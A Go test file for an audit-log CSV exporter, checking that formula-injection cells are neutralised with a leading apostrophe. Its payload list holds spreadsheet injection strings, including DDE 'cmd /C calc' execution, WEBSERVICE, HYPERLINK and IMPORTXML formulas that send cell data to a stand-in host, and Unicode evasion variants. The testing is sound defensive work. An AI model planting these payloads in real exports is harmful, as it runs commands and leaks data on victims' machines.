package export

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"slices"
	"strings"
	"testing"
	"time"

	"tasktrail/audit"
)

// payloads are cells that a spreadsheet may take for more than text.
var payloads = []string{
	`=1+1`, `=cmd|' /C calc'!A0`, `=HYPERLINK("http://x.example/?"&A1,"click")`, `=WEBSERVICE("http://x.example/"&A1)`,
	`=IMPORTXML(CONCAT("http://x.example/?v=",A1),"//a")`, `=DDE("cmd";"/C calc";"x")`, `=1+1;`, `==1`, `=`,
	`+1+1`, `+cmd|' /C calc'!A0`, `+`, `-1+1`, `-2+3+cmd|' /C calc'!A0`, `-`, `-5`, `@SUM(1+1)`, `@`, `@SUM(1+1)*cmd|' /C calc'!A0`,
	"\t=1+1", "\tx", "\t", "\r=1+1", "\rx", "\n=1+1", "\nx", "\r\n=1", "\n", "\r",
	` =1+1`, `   +1`, ` -1`, ` @x`, "\u00a0=1", "\u2003=1", "\ufeff=1", "\u200b=1", "\u202e=1", "\x00=1", "\x0b=1", " \t=1", " \n=1",
	`"=1+1"`, `""=1`, `'=1+1`, `'`, `''=1`, `" =1`, ` "=1`, `“=1”`, `‘-1’`, "`=1`",
	`＝1+1`, `＋1`, `－1`, `＠SUM(1)`, ` ＝1`, `"＝1`, `﹦1`, `﹢1`, `﹣1`, `﹫x`,
	"=1\r\n=2", `=1,=2`, "'\t=1",
}

var harmless = []string{"", "x", "1", "2026-01-02", "a=b", "a+b", "a - b", "user@example.com", "(=1)", "é", "x\n=1", `a "quoted" word`, "a,b", "#N/A", "…=1", `","=1+1`, `x","=1`}

// dangerous says independently of the writer which cells a spreadsheet may take
// for a formula: by what is left when all that it may skip is taken away.
func dangerous(cell string) bool {
	skipped := func(r rune) bool {
		return strings.ContainsRune(" \u00a0\u2003\ufeff\u200b\u202e\x00\x0b\"'`“”‘’", r)
	}
	rest := strings.TrimLeftFunc(cell, skipped)
	return rest != "" && strings.ContainsRune("=+-@\t\r\n＝＋－＠﹦﹢﹣﹫", []rune(rest)[0])
}

// An apostrophe as the first character makes a cell text.
func active(cell string) bool { return !strings.HasPrefix(cell, "'") && dangerous(cell) }

// hostile is an event that holds a payload wherever text can stand.
func hostile(s string) *audit.Event {
	text, _ := json.Marshal(s)
	return &audit.Event{
		Header: audit.Header{
			Position: 7, RecordedAt: time.UnixMicro(1764000000000001).UTC(), Action: "TASK_UPDATED", SubjectKind: "task", SubjectID: s,
			SubjectVersion: 2, IncidentID: s, ActorKind: "USER", ActorID: s, RequestID: s, MutationID: s,
		},
		Payload: audit.Payload{ActorName: s, Reason: s, Changes: []audit.Change{{Field: s, From: json.RawMessage(`null`), To: text}}},
	}
}

func written(t *testing.T, events ...*audit.Event) [][]string {
	t.Helper()
	var out bytes.Buffer
	b := bufio.NewWriter(&out)
	rows := &table{w: b}
	rows.write(columns)
	for _, e := range events {
		rows.event(e)
	}
	if err := b.Flush(); err != nil || rows.err != nil {
		t.Fatal(err, rows.err)
	}
	cells, err := csv.NewReader(&out).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return cells
}

func TestCSVIsInert(t *testing.T) {
	if len(payloads) < 60 {
		t.Errorf("%d payloads, want at least 60", len(payloads))
	}
	// encoding/csv reads every line end as a line feed.
	asRead := strings.NewReplacer("\r\n", "\n")
	for _, p := range payloads {
		// The control: the check must find a writer that leaves cells as they are.
		if p != "'" && !dangerous(p) {
			t.Errorf("the check does not find %q", p)
		}
		row := written(t, hostile(p))[1]
		for n, cell := range row {
			if active(cell) {
				t.Errorf("%q: column %s is active: %q", p, columns[n], cell)
			}
		}
		for _, name := range []string{"actorName", "actorId", "subjectId", "incidentId", "field", "to", "reason", "requestId", "clientMutationId"} {
			want := "'" + p
			if !dangerous(p) {
				want = p
			}
			if got := row[slices.Index(columns, name)]; got != asRead.Replace(want) {
				t.Errorf("column %s is %q, want %q", name, got, want)
			}
		}
	}
	for _, p := range harmless {
		if got := written(t, hostile(p))[1][slices.Index(columns, "to")]; got != p {
			t.Errorf("%q was changed into %q", p, got)
		}
	}
}

func TestCSVRows(t *testing.T) {
	change := func(field, from, to string) audit.Change {
		return audit.Change{Field: field, From: json.RawMessage(from), To: json.RawMessage(to)}
	}
	e := hostile("x")
	e.Payload.CausedBy = 3
	e.Payload.Changes = []audit.Change{change("labels", `["a"]`, `[]`), change("mandatory", "true", "false"), change("title", `"é"`, `"\u003c\n\""`), change("rank", "null", "-1")}
	none := hostile("x")
	none.Payload.Changes = nil
	redacted := hostile("x").WithoutPayload()
	rows := written(t, e, none, redacted)
	want := [][]string{
		{"1", "labels", `["a"]`, "[]", "3", "false"},
		{"2", "mandatory", "true", "false", "3", "false"},
		{"3", "title", "é", "<\n\"", "3", "false"},
		{"4", "rank", "", "'-1", "3", "false"},
		{"0", "", "", "", "", "false"},
		{"0", "", "", "", "", "true"},
	}
	if len(rows) != len(want)+1 {
		t.Fatalf("%d rows, want %d", len(rows)-1, len(want))
	}
	for n, row := range rows[1:] {
		var got []string
		for _, name := range []string{"change", "field", "from", "to", "causedBy", "redacted"} {
			got = append(got, row[slices.Index(columns, name)])
		}
		if !slices.Equal(got, want[n]) || row[0] != "7" || row[1] != "2025-11-24T16:00:00.000001Z" {
			t.Errorf("row %d is %q, want %q in it", n, row, want[n])
		}
	}
	if name := rows[6][slices.Index(columns, "actorName")]; name != "" {
		t.Errorf("a redacted event shows %q", name)
	}
}
